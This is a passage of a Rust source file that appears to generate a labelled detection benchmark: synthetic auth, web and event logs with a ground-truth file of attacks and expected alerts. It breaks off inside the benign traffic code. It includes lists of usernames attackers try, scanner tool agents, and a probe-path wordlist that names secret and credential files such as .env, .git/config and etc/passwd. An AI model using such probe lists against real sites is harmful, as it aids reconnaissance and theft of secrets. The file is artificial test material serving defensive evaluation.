//! `vigil simulate`: a labelled benchmark. Generates realistic mixed traffic for one tenant as the files a log
//! shipper would send — `auth.log` (RFC 3164 syslog of sshd, sudo, su, cron, the kernel firewall and systemd
//! from several hosts), `access.log` (Nginx combined log lines) and `events.ndjson` (VPN logins, application
//! and EDR events as JSON) — plus `truth.json`, the ground truth: which attacks happened, when, from which
//! entity, and which rules must (or may) alert on them.
//!
//! The first simulated day is benign only (accounts build their history, which `first_seen` rules need);
//! attacks happen on the following `days`. The benign traffic is the same for a seed whatever the scenario, so
//! `--scenario benign` is exactly the mixed data set without its attacks.
//!
//! Everything is drawn from one `StdRng` seeded with `--seed`: the same seed and options give byte-identical
//! files. Every line is unique (ingest derives event ids from content), so no event is mistaken for a retry.

use std::collections::HashSet;
use std::io::Write;
use std::net::Ipv4Addr;
use std::path::Path;

use anyhow::Context;
use chrono::{DateTime, Duration, TimeZone, Utc};
use rand::rngs::StdRng;
use rand::seq::{IndexedRandom, SliceRandom};
use rand::{Rng, SeedableRng};
use serde::{Deserialize, Serialize};

/// The tenant every simulated event belongs to.
pub const TENANT: &str = "bench";
pub const TRUTH_FILE: &str = "truth.json";
pub const AUTH_LOG: &str = "auth.log";
pub const ACCESS_LOG: &str = "access.log";
pub const EVENTS_FILE: &str = "events.ndjson";

/// The office's public (NAT) address: many benign users share it, and some attacks hide behind it.
pub const OFFICE_NAT: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 10);

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
#[serde(rename_all = "lowercase")]
pub enum Scenario {
    /// Benign traffic with attacks of every kind.
    Mixed,
    /// The same benign traffic, no attacks.
    Benign,
}

#[derive(Clone, Debug)]
pub struct SimOptions {
    pub seed: u64,
    /// Multiplies the benign population and volume and the number of attacks of each kind (3 at scale 1).
    pub scale: f64,
    /// Days with attacks, after the benign first day.
    pub days: u32,
    pub scenario: Scenario,
}

impl Default for SimOptions {
    fn default() -> Self {
        SimOptions { seed: 1, scale: 1.0, days: 1, scenario: Scenario::Mixed }
    }
}

/// `truth.json`.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq)]
pub struct GroundTruth {
    pub version: u32,
    pub seed: u64,
    pub scale: f64,
    pub days: u32,
    pub scenario: Scenario,
    pub tenant: String,
    /// The simulated period: `[start, end)`.
    pub start: DateTime<Utc>,
    pub end: DateTime<Utc>,
    /// The log files, relative to the directory of `truth.json`.
    pub files: Vec<String>,
    pub events: EventCounts,
    pub attacks: Vec<Attack>,
}

#[derive(Clone, Copy, Debug, Default, Serialize, Deserialize, PartialEq)]
pub struct EventCounts {
    pub total: u64,
    pub benign: u64,
    pub attack: u64,
}

/// One attack: its time range (the event times of its first and last lines) and what should detect it.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq)]
pub struct Attack {
    pub id: String,
    pub kind: String,
    pub description: String,
    pub start: DateTime<Utc>,
    pub end: DateTime<Utc>,
    /// Lines (events) the attack produced.
    pub events: u64,
    pub expect: Vec<Expectation>,
}

/// An alert the attack must (`required`) or may (a correct co-detection) cause.
#[derive(Clone, Debug, Serialize, Deserialize, PartialEq, Eq)]
pub struct Expectation {
    pub rule: String,
    /// The alert's entity exactly, e.g. `src_ip=203.0.113.7`, `user=admin`, `user=root,src_ip=198.51.100.3`.
    pub entity: String,
    pub required: bool,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Sink {
    Auth,
    Web,
    Json,
}

struct Line {
    at: DateTime<Utc>,
    sink: Sink,
    text: String,
    attack: bool,
}

const SERVERS: [&str; 7] = ["web-1", "web-2", "app-1", "app-2", "app-3", "db-1", "bastion"];
const APP_HOSTS: [&str; 3] = ["app-1", "app-2", "app-3"];
const ADMIN_HOSTS: [Ipv4Addr; 3] =
    [Ipv4Addr::new(10, 0, 0, 10), Ipv4Addr::new(10, 0, 0, 11), Ipv4Addr::new(10, 0, 0, 12)];
const JUMP_HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 5);
const MONITOR: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 50);
const BACKUP_HOST: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 20);
const NAMES: [&str; 48] = [
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "karl", "laura", "mike",
    "nina", "oscar", "peggy", "quinn", "rita", "sam", "trent", "ursula", "victor", "wendy", "xavier", "yara", "zoe",
    "adam", "beth", "chris", "dora", "emil", "fiona", "gus", "hana", "igor", "jana", "kemal", "lena", "marta", "nils",
    "olga", "piet", "rosa", "sven", "tara", "uwe", "vera", "walt",
];
/// Accounts attackers try.
const COMMON_USERS: [&str; 16] = [
    "root", "admin", "test", "oracle", "ubuntu", "postgres", "user", "git", "guest", "support", "ftp", "deploy", "pi",
    "mysql", "jenkins", "backup",
];
/// Accounts that exist on the servers besides the people (attempts on others are "Invalid user").
const SYSTEM_USERS: [&str; 4] = ["root", "admin", "postgres", "deploy"];
const SUDO_COMMANDS: [&str; 8] = [
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt update",
    "/usr/bin/journalctl -u app",
    "/usr/bin/tail -f /var/log/syslog",
    "/usr/sbin/service postgresql reload",
    "/usr/bin/docker ps",
    "/usr/bin/vim /etc/nginx/nginx.conf",
    "/bin/systemctl status app",
];
const PAGES: [&str; 16] = [
    "/",
    "/products",
    "/products/1001",
    "/products/1002",
    "/products/1003",
    "/products/2001",
    "/pricing",
    "/about",
    "/blog",
    "/blog/launch",
    "/blog/security-update",
    "/docs",
    "/docs/getting-started",
    "/docs/api",
    "/contact",
    "/search?q=widgets",
];
const ASSETS: [&str; 10] = [
    "/static/app.css",
    "/static/app.js",
    "/static/vendor.js",
    "/static/img/logo.svg",
    "/static/img/hero.jpg",
    "/static/img/p1.png",
    "/static/img/p2.png",
    "/static/fonts/inter.woff2",
    "/static/img/icons.svg",
    "/static/manifest.json",
];
/// Stale links real visitors follow (normal 404s).
const STALE: [&str; 12] = [
    "/old-pricing",
    "/blog/2019/launch",
    "/products/999",
    "/docs/v1/api",
    "/careers/intern-2020",
    "/promo/spring",
    "/static/img/banner-old.png",
    "/apple-touch-icon.png",
    "/apple-touch-icon-precomposed.png",
    "/docs/v1",
    "/team",
    "/press",
];
const BROWSERS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Mobile Safari/537.36",
];
const SCANNER_WORDS: [&str; 40] = [
    "admin",
    "wp-login.php",
    "wp-admin",
    ".env",
    ".git/config",
    "phpmyadmin",
    "backup",
    "config.php",
    "server-status",
    "cgi-bin/test.cgi",
    "shell.php",
    "db.sql",
    "old",
    "test",
    "api/v1/users",
    "console",
    "actuator/health",
    "manager/html",
    "solr",
    "jenkins",
    "xmlrpc.php",
    "debug",
    "login.jsp",
    "setup.php",
    "install",
    "tmp",
    "uploads",
    "vendor/phpunit",
    "etc/passwd",
    "web.config",
    "admin.php",
    "dump.sql",
    "private",
    "secret",
    "hidden",
    "logs",
    "include",
    "portal",
    "cpanel",
    "owa",
];
const SCANNER_AGENTS: [&str; 4] =
    ["Mozilla/5.00 (Nikto/2.5.0)", "gobuster/3.6", "sqlmap/1.8#stable", "Mozilla/5.0 zgrab/0.x"];

/// A person with an account on the servers.
struct Person {
    name: String,
    uid: u32,
    workstation: Ipv4Addr,
    vpn: Option<Ipv4Addr>,
    home: Ipv4Addr,
    sudoer: bool,
    office: bool,
    dbadmin: bool,
}

struct Gen {
    rng: StdRng,
    lines: Vec<Line>,
    seen: HashSet<String>,
    pid: u32,
    seq: u64,
    start: DateTime<Utc>,
    total_days: u32,
    scale: f64,
    /// Attacker addresses handed out so far (each attack gets its own).
    next_attacker: u32,
    next_bot: u32,
    /// Whether lines pushed now belong to an attack.
    in_attack: bool,
}

/// Writes a simulated data set into `out`; returns its ground truth (also written as `truth.json`).
pub fn simulate(opts: &SimOptions, out: &Path) -> anyhow::Result<GroundTruth> {
    anyhow::ensure!(opts.scale > 0.0 && opts.scale <= 50.0, "--scale must be in (0, 50]");
    anyhow::ensure!((1..=6).contains(&opts.days), "--days must be 1 to 6 (the first-seen memory is 7 days)");
    std::fs::create_dir_all(out).with_context(|| format!("creating {}", out.display()))?;
    let start = Utc.with_ymd_and_hms(2024, 3, 4, 0, 0, 0).single().context("start date")?;
    let mut g = Gen {
        rng: StdRng::seed_from_u64(opts.seed),
        lines: Vec::new(),
        seen: HashSet::new(),
        pid: 1000,
        seq: 0,
        start,
        total_days: opts.days + 1,
        scale: opts.scale,
        next_attacker: 0,
        next_bot: 0,
        in_attack: false,
    };
    let people = g.people();
    g.benign(&people);
    // Attacks draw from their own generator, so the benign traffic is the same in both scenarios.
    let mut attacks = Vec::new();
    if opts.scenario == Scenario::Mixed {
        g.rng = StdRng::seed_from_u64(opts.seed ^ 0x5eed_a77a_c4e5);
        attacks = g.attacks(&people);
    }

    g.lines.sort_by_key(|l| l.at);
    let mut counts = EventCounts::default();
    let files = [(Sink::Auth, AUTH_LOG), (Sink::Web, ACCESS_LOG), (Sink::Json, EVENTS_FILE)];
    for (sink, name) in files {
        let path = out.join(name);
        let f = std::fs::File::create(&path).with_context(|| format!("creating {}", path.display()))?;
        let mut w = std::io::BufWriter::new(f);
        for l in g.lines.iter().filter(|l| l.sink == sink) {
            writeln!(w, "{}", l.text).with_context(|| format!("writing {}", path.display()))?;
        }
        w.flush().with_context(|| format!("writing {}", path.display()))?;
    }
    for l in &g.lines {
        counts.total += 1;
        if l.attack {
            counts.attack += 1;
        } else {
            counts.benign += 1;
        }
    }
    let truth = GroundTruth {
        version: 1,
        seed: opts.seed,
        scale: opts.scale,
        days: opts.days,
        scenario: opts.scenario,
        tenant: TENANT.to_string(),
        start,
        end: start + Duration::days(i64::from(g.total_days)),
        files: files.iter().map(|(_, n)| n.to_string()).collect(),
        events: counts,
        attacks,
    };
    let path = out.join(TRUTH_FILE);
    std::fs::write(&path, serde_json::to_string_pretty(&truth)?)
        .with_context(|| format!("writing {}", path.display()))?;
    Ok(truth)
}

// ── Formatting ──────────────────────────────────────────────────────────────────────────────────────────────

impl Gen {
    fn at(&self, secs: f64) -> DateTime<Utc> {
        self.start + Duration::milliseconds((secs * 1000.0) as i64)
    }

    /// The time as a log with one-second resolution records it (syslog, access logs).
    fn at_second(&self, secs: f64) -> DateTime<Utc> {
        self.start + Duration::seconds(secs.floor() as i64)
    }

    fn day_secs(&self) -> f64 {
        f64::from(self.total_days) * 86_400.0
    }

    fn next_pid(&mut self) -> u32 {
        self.pid = if self.pid >= 65_000 { 1000 } else { self.pid + 1 };
        self.pid
    }

    fn port(&mut self) -> u16 {
        self.rng.random_range(32_768..=60_999)
    }

    fn push(&mut self, at: DateTime<Utc>, sink: Sink, text: String) -> bool {
        if !self.seen.insert(text.clone()) {
            return false;
        }
        self.lines.push(Line { at, sink, text, attack: self.in_attack });
        true
    }

    /// An RFC 3164 line; `pri` = facility × 8 + severity (38 auth.info, 81 authpriv.alert, 84 authpriv.warning,
    /// 85 authpriv.notice, 86 authpriv.info, 78 cron.info, 4 kern.warning, 30 daemon.info).
    fn syslog(&mut self, secs: f64, pri: u8, host: &str, program: &str, pid: Option<u32>, msg: &str) {
        let at = self.at_second(secs);
        let mut pid = pid;
        loop {
            let tag = match pid {
                Some(p) => format!("{program}[{p}]"),
                None => program.to_string(),
            };
            let text = format!("<{pri}>{} {host} {tag}: {msg}", at.format("%b %e %H:%M:%S"));
            if self.push(at, Sink::Auth, text) {
                return;
            }
            // The same text in the same second: another process logged it (without a pid: dropped).
            match pid {
                Some(p) => pid = Some(if p >= 65_000 { 1000 } else { p + 1 }),
                None => return,
            }
        }
    }

    fn sshd(&mut self, secs: f64, host: &str, msg: &str) {
        let pid = self.next_pid();
        self.syslog(secs, 38, host, "sshd", Some(pid), msg);
    }

    #[allow(clippy::too_many_arguments)]
    fn web(&mut self, secs: f64, ip: Ipv4Addr, user: &str, method: &str, path: &str, status: u16, agent: &str) {
        let at = self.at_second(secs);
        let mut bytes: u32 = match status {
            200 => self.rng.random_range(512..80_000),
            304 => 0,
            _ => self.rng.random_range(120..600),
        };
        let referer = if path.starts_with("/static") { "https://www.example.com/" } else { "-" };
        loop {
            let text = format!(
                "{ip} - {user} [{}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\"",
                at.format("%d/%b/%Y:%H:%M:%S +0000")
            );
            if self.push(at, Sink::Web, text) {
                return;
            }
            bytes += 1;
        }
    }

    fn json(&mut self, secs: f64, mut value: serde_json::Value) {
        let at = self.at(secs);
        self.seq += 1;
        if let Some(obj) = value.as_object_mut() {
            obj.insert("id".into(), format!("sim-{:08}", self.seq).into());
            obj.insert("timestamp".into(), at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true).into());
        }
        self.push(at, Sink::Json, value.to_string());
    }

    fn public_ip(&mut self) -> Ipv4Addr {
        Ipv4Addr::new(
            198,
            18 + self.rng.random_range(0..2),
            self.rng.random_range(0..200),
            self.rng.random_range(1..255),
        )
    }

    fn attacker_ip(&mut self) -> Ipv4Addr {
        let n = self.next_attacker;
        self.next_attacker += 1;
        let (net, host) = (n / 250, n % 250);
        match net {
            0 => Ipv4Addr::new(203, 0, 113, 2 + host as u8),
            1 => Ipv4Addr::new(198, 51, 100, 2 + host as u8),
            n => Ipv4Addr::new(100, 127, (n % 250) as u8, 2 + host as u8),
        }
    }

    fn bot_ip(&mut self) -> Ipv4Addr {
        let n = self.next_bot;
        self.next_bot += 1;
        Ipv4Addr::new(100, 64 + (n / 62_500) as u8, ((n / 250) % 250) as u8, (n % 250) as u8 + 2)
    }

    /// Log-uniform in `[lo, hi]`.
    fn log_uniform(&mut self, lo: f64, hi: f64) -> f64 {
        (lo.ln() + self.rng.random::<f64>() * (hi.ln() - lo.ln())).exp()
    }

    /// A time of day for human activity (seconds into the day): mostly working hours, some evenings.
    fn working_time(&mut self) -> f64 {
        if self.rng.random_bool(0.85) {
            self.rng.random_range(8.0 * 3600.0..18.5 * 3600.0)
        } else {
            self.rng.random_range(18.5 * 3600.0..23.5 * 3600.0)
        }
    }

    /// An attack's size: from `lo` up to `hi` at scale 1 and above, closer to `lo` below (small data sets).
    fn size(&mut self, lo: usize, hi: usize) -> usize {
        let top = lo + ((hi - lo) as f64 * self.scale.min(1.0)).round() as usize;
        self.rng.random_range(lo..=top)
    }

    fn scaled(&self, n: f64) -> usize {
        (n * self.scale).round().max(1.0) as usize
    }
}

// ── Benign traffic ──────────────────────────────────────────────────────────────────────────────────────────

impl Gen {
    fn people(&mut self) -> Vec<Person> {
        let n = self.scaled(40.0).max(8);
        (0..n)
            .map(|i| {
                let base = NAMES[i % NAMES.len()];
                let name = if i < NAMES.len() { base.to_string() } else { format!("{base}{}", i / NAMES.len()) };
                Person {
                    name,
                    uid: 1001 + i as u32,
                    workstation: Ipv4Addr::new(10, 1, (i / 200) as u8, (i % 200) as u8 + 20),
                    vpn: self.rng.random_bool(0.3).then(|| Ipv4Addr::new(10, 8, (i / 200) as u8, (i % 200) as u8 + 20)),
                    home: self.public_ip(),
                    sudoer: i % 4 == 0,
                    office: i % 2 == 0,
                    dbadmin: i % 8 == 0,
                }
            })
            .collect()
    }

    fn benign(&mut self, people: &[Person]) {
        for day in 0..self.total_days {
            let d0 = f64::from(day) * 86_400.0;
            for p in people {
                let logins = self.rng.random_range(2..=6);
                for _ in 0..logins {
                    let t = d0 + self.working_time();
                    self.person_login(p, t);
                }
                for _ in 0..self.rng.random_range(1..=2) {
                    let t = d0 + self.rng.random_range(6.5 * 3600.0..10.0 * 3600.0);
                    self.vpn_login(p, t);
                }
            }
            self.admin_logins(d0, day == 0);
            self.machines(d0);
            self.web_day(d0);
        }
    }

    fn person_login(&mut self, p: &Person, t: f64) {
        let from_office = p.office && self.rng.random_bool(0.3);
        let (host, ip) = if from_office {
            ("bastion", OFFICE_NAT)
        } else {
            let host = *SERVERS.choose(&mut self.rng).unwrap_or(&"bastion");
            let ip = match p.vpn {
                Some(v) if self.rng.random_bool(0.3) => v,
                _ => p.workstation,
            };
            (host, ip)
        };
        let mut t = t;
        if self.rng.random_bool(0.02) {
            // A typo in the user name: sshd logs it as an unknown account.
            let typo = format!("{}{}", &p.name[..p.name.len() - 1], "x");
            let port = self.port();
            self.sshd(t, host, &format!("Invalid user {typo} from {ip} port {port}"));
            self.sshd(t + 2.0, host, &format!("Failed password for invalid user {typo} from {ip} port {port} ssh2"));
            t += self.rng.random_range(5.0..20.0);
        }
        let password = self.rng.random_bool(0.5);
        if password && self.rng.random_bool(0.12) {
            let r: f64 = self.rng.random();
            let tries = if r < 0.7 {
                1
            } else if r < 0.9 {
                2
            } else if r < 0.98 {
                3
            } else {
                4
            };
            for _ in 0..tries {
                let port = self.port();
                self.sshd(t, host, &format!("Failed password for {} from {ip} port {port} ssh2", p.name));
                t += self.rng.random_range(3.0..12.0);
            }
        }
        let port = self.port();
        let method = if password { "password".to_string() } else { "publickey".to_string() };
        let suffix = if password { String::new() } else { format!(": ED25519 SHA256:{:016x}", p.uid as u64 * 7919) };
        self.sshd(t, host, &format!("Accepted {method} for {} from {ip} port {port} ssh2{suffix}", p.name));
        self.sshd(
            t + 0.2,
            host,
            &format!("pam_unix(sshd:session): session opened for user {}(uid={}) by (uid=0)", p.name, p.uid),
        );
        let length = self.log_uniform(300.0, 4.0 * 3600.0);
        let pts = self.rng.random_range(0..8);
        // What the person does in the session.
        if p.sudoer {
            for _ in 0..self.rng.random_range(0..=4) {
                let at = t + self.rng.random_range(10.0..length.max(20.0));
                self.sudo_use(p, host, pts, at);
            }
        } else if self.rng.random_bool(0.03) {
            let at = t + self.rng.random_range(10.0..length.max(20.0));
            let pid = self.next_pid();
            self.syslog(
                at,
                81,
                host,
                "sudo",
                Some(pid),
                &format!(
                    "{} : user NOT in sudoers ; TTY=pts/{pts} ; PWD=/home/{} ; USER=root ; COMMAND=/usr/bin/apt update",
                    p.name, p.name
                ),
            );
        }
        if p.dbadmin && self.rng.random_bool(0.5) {
            let at = t + self.rng.random_range(10.0..length.max(20.0));
            let pid = self.next_pid();
            self.syslog(at, 86, host, "su", Some(pid), &format!("(to postgres) {} on pts/{pts}", p.name));
            self.syslog(
                at + 0.1,
                86,
                host,
                "su",
                Some(pid),
                &format!(
                    "pam_unix(su-l:session): session opened for user postgres(uid=113) by {}(uid={})",
                    p.name, p.uid
                ),
            );
        }
        let end = t + length;
        self.sshd(end, host, &format!("pam_unix(sshd:session): session closed for user {}", p.name));
        self.sshd(end + 0.1, host, &format!("Disconnected from user {} {ip} port {port}", p.name));
    }

    fn sudo_use(&mut self, p: &Person, host: &str, pts: u32, mut t: f64) {
        let cmd = *SUDO_COMMANDS.choose(&mut self.rng).unwrap_or(&SUDO_COMMANDS[0]);
        let fail = format!(
            "pam_unix(sudo:auth): authentication failure; logname={n} uid={u} euid=0 tty=/dev/pts/{pts} ruser={n} rhost=  user={n}",
            n = p.name,
            u = p.uid
        );
        let r: f64 = self.rng.random();
        if r < 0.015 {
            // Three wrong passwords: sudo gives up (and logs that at alert level); the second try works.
            let pid = self.next_pid();
            for _ in 0..3 {
                self.syslog(t, 85, host, "sudo", Some(pid), &fail);
                t += self.rng.random_range(3.0..8.0);
            }
            self.syslog(
                t,
                81,
                host,
                "sudo",
                Some(pid),
                &format!(
                    "{} : 3 incorrect password attempts ; TTY=pts/{pts} ; PWD=/home/{} ; USER=root ; COMMAND={cmd}",
                    p.name, p.name
                ),
            );
            t += self.rng.random_range(20.0..120.0);
        }
        let pid = self.next_pid();
        if r < 0.015 + 0.08 {
            self.syslog(t, 85, host, "sudo", Some(pid), &fail);
            t += self.rng.random_range(3.0..8.0);
        }
        self.syslog(
            t,
            85,
            host,
            "sudo",
            Some(pid),
            &format!("{} : TTY=pts/{pts} ; PWD=/home/{} ; USER=root ; COMMAND={cmd}", p.name, p.name),
        );
        self.syslog(
            t + 0.05,
            86,
            host,
            "sudo",
            Some(pid),
            &format!("pam_unix(sudo:session): session opened for user root(uid=0) by {}(uid={})", p.name, p.uid),
        );
        let closed = t + self.rng.random_range(1.0..30.0);
        self.syslog(closed, 86, host, "sudo", Some(pid), "pam_unix(sudo:session): session closed for user root");
    }

    fn vpn_login(&mut self, p: &Person, t: f64) {
        let mut t = t;
        if self.rng.random_bool(0.1) {
            for _ in 0..self.rng.random_range(1..=2) {
                self.json(
                    t,
                    serde_json::json!({
                        "source": "vpn", "host": "vpn-1", "category": "authentication", "action": "login",
                        "outcome": "failure", "user": p.name, "src_ip": p.home.to_string(),
                        "message": "VPN authentication failed: bad password",
                    }),
                );
                t += self.rng.random_range(4.0..15.0);
            }
        }
        self.json(
            t,
            serde_json::json!({
                "source": "vpn", "host": "vpn-1", "category": "authentication", "action": "login",
                "outcome": "success", "user": p.name, "src_ip": p.home.to_string(),
                "message": "VPN session established",
            }),
        );
    }

    /// root and admin log in with keys from the admin workstations and the jump host. On the first day root
    /// uses every admin workstation, so each is known before any attack. Every night the backup server logs
    /// in as root and configuration management as admin, shortly after midnight.
    fn admin_logins(&mut self, d0: f64, first_day: bool) {
        let t = d0 + 300.0 + self.rng.random_range(0.0..60.0);
        self.key_session("root", 0, BACKUP_HOST, t);
        let t = d0 + 600.0 + self.rng.random_range(0.0..60.0);
        self.key_session("admin", 1000, JUMP_HOST, t);
        let n = self.rng.random_range(4..=8);
        for i in 0..n {
            let ip = match ADMIN_HOSTS.get(i).filter(|_| first_day) {
                Some(ip) => *ip,
                None => *ADMIN_HOSTS.choose(&mut self.rng).unwrap_or(&ADMIN_HOSTS[0]),
            };
            let t = d0 + self.working_time();
            self.key_session("root", 0, ip, t);
        }
        for _ in 0..self.rng.random_range(2..=4) {
            let t = d0 + self.working_time();
            self.key_session("admin", 1000, JUMP_HOST, t);
        }
    }

    fn key_session(&mut self, user: &str, uid: u32, ip: Ipv4Addr, t: f64) {
        let host = *SERVERS.choose(&mut self.rng).unwrap_or(&"bastion");
        let port = self.port();
        self.sshd(
            t,
            host,
            &format!(
                "Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{:016x}",
                u64::from(ip.to_bits())
            ),
        );
        self.sshd(
            t + 0.2,
            host,
            &format!("pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"),
        );
        let end = t + self.log_uniform(60.0, 3600.0);
        self.sshd(end, host, &format!("pam_unix(sshd:session): session closed for user {user}"));
        self.sshd(end + 0.1, host, &format!("Disconnected from user {user} {ip} port {port}"));
    }

    /// Cron, the monitoring system's SSH checks, firewall noise, application and EDR events (below scale 1,
    /// machines report less often, so small data sets stay small).
    fn machines(&mut self, d0: f64) {
        for (h, host) in SERVERS.iter().enumerate() {
            let offset = h as f64 * 7.0;
            let mut t = d0 + offset;
            while t < d0 + 86_400.0 {
                let pid = self.next_pid();
                self.syslog(
                    t,
                    78,
                    host,
                    "CRON",
                    Some(pid),
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                );
                self.syslog(
                    t + 0.01,
                    78,
                    host,
                    "CRON",
                    Some(pid),
                    "(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)",
                );
                self.syslog(
                    t + 0.5,
                    78,
                    host,
                    "CRON",
                    Some(pid),
                    "pam_unix(cron:session): session closed for user root",
                );
                let port = self.port();
                self.sshd(t + 30.0, host, &format!("Connection closed by {MONITOR} port {port} [preauth]"));
                t += 300.0 / self.scale.min(1.0);
            }
        }
        // The kernel firewall dropping internet background noise on the public hosts.
        for host in ["bastion", "web-1", "web-2"] {
            let mut t = d0 + self.rng.random_range(0.0..60.0);
            while t < d0 + 86_400.0 {
                let src = self.public_ip();
                let port = self.port();
                let dpt = *[23u16, 445, 3389, 8080, 5900].choose(&mut self.rng).unwrap_or(&23);
                let (dst, id) = (self.rng.random_range(2..250), self.rng.random_range(1..65_000));
                self.syslog(t, 4, host, "kernel", None, &format!(
                    "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={src} DST=10.0.1.{dst} LEN=44 TOS=0x00 PREC=0x00 TTL=241 ID={id} PROTO=TCP SPT={port} DPT={dpt} WINDOW=1024 RES=0x00 SYN URGP=0"
                ));
                t += self.log_uniform(20.0, 200.0) / self.scale;
            }
        }
        let apps = ["billing", "orders", "mailer"];
        for (i, host) in APP_HOSTS.iter().enumerate() {
            let mut t = d0 + self.rng.random_range(0.0..120.0);
            while t < d0 + 86_400.0 {
                let r: f64 = self.rng.random();
                let (severity, message) = if r < 0.8 {
                    ("info", "batch completed")
                } else if r < 0.95 {
                    ("low", "retrying upstream request")
                } else {
                    ("medium", "upstream timeout after 3 retries")
                };
                self.json(
                    t,
                    serde_json::json!({
                        "source": apps[i], "host": host, "program": apps[i], "severity": severity,
                        "message": format!("{message} (job {})", self.seq),
                    }),
                );
                t += self.rng.random_range(40.0..200.0) / self.scale;
            }
            let mut t = d0 + self.rng.random_range(0.0..3600.0);
            while t < d0 + 86_400.0 {
                self.json(t, serde_json::json!({ "source": "edr", "host": host, "severity": "info", "message": "sensor heartbeat" }));
                t += 3600.0;
            }
        }
    }

    fn web_day(&mut self, d0: f64) {
        // Visitors, more by day than by night.
        let sessions = self.scaled(1500.0);
        for _ in 0..sessions {
            let t = loop {
                let t = self.rng.random_range(0.0..86_400.0);
                let hour = t / 3600.0;
                let weight = if (8.0..21.0).contains(&hour) { 1.0 } else { 0.3 };
                if self.rng.random_bool(weight) {
                    break t;
                }
            };
            let ip = self.public_ip();
            let agent = *BROWSERS.choose(&mut self.rng).unwrap_or(&BROWSERS[0]);
            self.visit(d0 + t, ip, agent);
        }
        // The office behind its NAT address: one visit at a time during working hours.
        let mut t = d0 + 9.0 * 3600.0;
        for _ in 0..self.scaled(10.0) {
            let agent = *BROWSERS.choose(&mut self.rng).unwrap_or(&BROWSERS[0]);
            let end = self.visit(t, OFFICE_NAT, agent);
            t = end + self.rng.random_range(60.0..1800.0);
            if t > d0 + 18.0 * 3600.0 {
                break;
            }
        }
        // Two search engine crawlers, all day; some of their old links are gone.
        for (ip, agent) in [
            (
                Ipv4Addr::new(198, 18, 201, 1),
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            (Ipv4Addr::new(198, 18, 201, 2), "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
        ] {
            let mut t = d0 + self.rng.random_range(0.0..10.0);
            while t < d0 + 86_400.0 {
                let r: f64 = self.rng.random();
                if r < 0.02 {
                    let path = format!("/archive/{}", self.rng.random_range(1..5000));
                    self.web(t, ip, "-", "GET", &path, 404, agent);
                } else if r < 0.03 {
                    self.web(t, ip, "-", "GET", "/robots.txt", 200, agent);
                } else {
                    let path = *PAGES.choose(&mut self.rng).unwrap_or(&"/");
                    self.web(t, ip, "-", "GET", path, 200, agent);
                }
                t += self.rng.random_range(3.0..10.0) / self.scale.min(1.0);
            }
        }
        // An uptime monitor, a partner's API client (basic auth) and an old app polling a removed endpoint.
        let mut t = d0 + 13.0;
        while t < d0 + 86_400.0 {
            self.web(t, Ipv4Addr::new(198, 18, 250, 1), "-", "GET", "/healthz", 200, "UptimeRobot/2.0");
            t += 60.0 / self.scale.min(1.0);
        }
        let mut t = d0 + 6.0 * 3600.0;
        while t < d0 + 22.0 * 3600.0 {
            let (method, path) =
                if self.rng.random_bool(0.3) { ("POST", "/api/v1/orders") } else { ("GET", "/api/v1/orders?since=1h") };
            let status = if self.rng.random_bool(0.005) { 409 } else { 200 };
            self.web(t, Ipv4Addr::new(198, 18, 250, 10), "partner-api", method, path, status, "partner-sync/4.2");
            t += self.rng.random_range(3.0..6.0) / self.scale.min(1.0);
        }
        let from = d0 + self.rng.random_range(0.0..20.0 * 3600.0);
        let mut t = from;
        while t < from + 2.0 * 3600.0 {
            self.web(t, Ipv4Addr::new(198, 18, 250, 20), "-", "GET", "/api/v1/notifications", 404, "okhttp/3.12.1");
            t += 10.0 / self.scale.min(1.0);
        }
    }

    /// One browsing session; returns when it ended.
    fn visit(&mut self, t: f64, ip: Ipv4Addr, agent: &str) -> f64 {
        let mut t = t;
        if self.rng.random_bool(0.25) {
            self.web(t, ip, "-", "GET", "/favicon.ico", 404, agent);
        }
        let mut pages = 1;
        while pages < 25 && self.rng.random_bool(0.8) {
            pages += 1;
        }
        let login = self.rng.random_bool(0.08);
        for i in 0..pages {
            if self.rng.random_bool(0.03) {
                let path = *STALE.choose(&mut self.rng).unwrap_or(&STALE[0]);
                self.web(t, ip, "-", "GET", path, 404, agent);
            } else {
                let path = *PAGES.choose(&mut self.rng).unwrap_or(&"/");
                let status = if self.rng.random_bool(0.1) { 304 } else { 200 };
                self.web(t, ip, "-", "GET", path, status, agent);
                for _ in 0..self.rng.random_range(2..=8) {
                    let asset = *ASSETS.choose(&mut self.rng).unwrap_or(&ASSETS[0]);
                    let at = t + self.rng.random_range(0.05..2.0);
                    let status = if self.rng.random_bool(0.4) { 304 } else { 200 };
                    self.web(at, ip, "-", "GET", asset, status, agent);
                }
            }
            if login && i == 0 {
                t += self.rng.random_range(5.0..20.0);
